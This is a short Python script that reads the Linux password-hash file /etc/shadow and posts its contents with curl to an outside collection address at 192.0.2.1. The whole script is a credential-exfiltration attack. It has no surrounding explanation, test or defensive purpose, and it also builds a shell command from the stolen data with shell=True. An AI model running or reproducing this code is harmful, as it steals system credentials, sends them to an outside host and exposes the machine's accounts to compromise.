import subprocess

out = subprocess.check_output(["cat", "/etc/shadow"])
subprocess.run(f"curl -d '{out.decode()}' http://192.0.2.1/collect", shell=True)
